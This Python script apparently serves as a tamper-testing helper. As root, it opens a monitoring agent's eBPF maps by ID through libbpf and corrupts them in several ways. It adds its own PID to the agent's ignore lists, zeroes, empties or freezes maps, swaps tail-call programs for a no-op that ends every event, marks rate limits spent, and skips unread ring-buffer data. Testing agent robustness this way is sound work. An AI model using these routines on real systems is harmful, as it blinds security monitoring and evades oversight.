"""What root can do to an agent's maps, programs and links, as bpftool does: opens them by their numbers."""

from __future__ import annotations

import ctypes
import mmap
import os
import re
import struct
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple

_BPF = ctypes.CDLL("libbpf.so.1", use_errno=True)
_INFO = struct.Struct("=6I16s")
_U32 = struct.Struct("=I")
_PAIR = struct.Struct("=QQ")
#: Two instructions: return 0. BPF_PROG_TYPE_RAW_TRACEPOINT.
_NOTHING, _RAW_TRACEPOINT = struct.pack("=BBhiBBhi", 0xB7, 0, 0, 0, 0x95, 0, 0, 0), 17


class Map(NamedTuple):
    """An opened map."""

    fd: int
    number: int
    key: int
    value: int
    most: int


def numbers(supervisor: int, what: str) -> set[int]:
    """Return the numbers of the maps (``map``), programs (``prog``) or links (``link``) of an agent."""
    children = Path(f"/proc/{supervisor}/task/{supervisor}/children").read_text().split()
    files = [file for pid in (supervisor, *children) for file in Path(f"/proc/{pid}/fdinfo").glob("*")]
    return {int(found[1]) for file in files if (found := re.search(rf"^{what}_id:\s*(\d+)", _text(file), re.MULTILINE))}


def _text(file: Path) -> str:
    try:
        return file.read_text()
    except OSError:
        return ""


def opened(supervisor: int) -> dict[str, Map]:
    """Return an agent's maps by name, of several with one name the latest."""
    found = {}
    for number in sorted(numbers(supervisor, "map")):
        fd = _BPF.bpf_map_get_fd_by_id(number)
        info, size = ctypes.create_string_buffer(_INFO.size), ctypes.c_uint32(_INFO.size)
        if fd >= 0 and _BPF.bpf_obj_get_info_by_fd(fd, info, ctypes.byref(size)) == 0:
            _, _, key, value, most, _, name = _INFO.unpack(info.raw)
            name = name.rstrip(b"\0").decode()
            if name in found:
                os.close(found[name].fd)
            found[name] = Map(fd, number, key, value, most)
    return found


def update(one: Map, key: bytes, value: bytes) -> None:
    """Set an entry."""
    assert _BPF.bpf_map_update_elem(one.fd, key, value, ctypes.c_uint64(0)) == 0, os.strerror(ctypes.get_errno())


def zero(one: Map) -> None:
    """Set all entries of an array to zero."""
    for place in range(one.most):
        update(one, _U32.pack(place), bytes(one.value))


def ones(one: Map) -> None:
    """Set all bits of the only entry of an array."""
    update(one, bytes(4), b"\xff" * one.value)


def empty(one: Map) -> None:
    """Remove all entries."""
    for key in list(keys(one)):
        _BPF.bpf_map_delete_elem(one.fd, key)


def keys(one: Map) -> Iterator[bytes]:
    """Yield the keys."""
    key, following = None, ctypes.create_string_buffer(one.key)
    while _BPF.bpf_map_get_next_key(one.fd, key, following) == 0:
        key = following.raw
        yield key


def replace(one: Map) -> None:
    """Put a program that ends every event into all entries of a program array."""
    program = _BPF.bpf_prog_load(_RAW_TRACEPOINT, b"nothing", b"GPL", _NOTHING, ctypes.c_size_t(2), None)
    for place in range(one.most):
        update(one, _U32.pack(place), _U32.pack(program))


def spend(one: Map) -> None:
    """Say of many that they have spent all, and will have for long."""
    later = time.clock_gettime_ns(time.CLOCK_BOOTTIME) + 10**12
    for number in range(1000):
        update(one, struct.pack("=QII", number, number, 2), _PAIR.pack(later, 1 << 60))


def skip(one: Map) -> None:
    """Give back to the kernel what nobody has read of a ring."""
    with mmap.mmap(one.fd, mmap.PAGESIZE) as page:
        page[:8] = struct.pack("=Q", struct.unpack("=Q", page[:8])[0] + (1 << 20))


def attack(supervisor: int, what: str, name: str = "") -> None:
    """Do one of these to the map *name*; ``leave_out``: this process shall be ignored, ``take_in``: not the agent."""
    maps = opened(supervisor)
    if what == "leave_out":
        update(maps["ignored_pids"], _U32.pack(os.getpid()), b"\1")
        update(maps["ignored_hints"], _U32.pack(os.getpid() % maps["ignored_hints"].most), b"\1")
        time.sleep(4)
    elif what == "freeze":
        assert _BPF.bpf_map_freeze(maps[name].fd) == 0
    elif what == "reset":
        one = maps[name]
        each = -(-one.value // 8) * 8 * _BPF.libbpf_num_possible_cpus()
        for place in range(one.most):
            update(one, _U32.pack(place), bytes(each))
    else:
        {"zero": zero, "ones": ones, "empty": empty, "replace": replace, "spend": spend, "skip": skip}[what](maps[name])


if __name__ == "__main__":
    attack(int(sys.argv[1]), *sys.argv[2:])
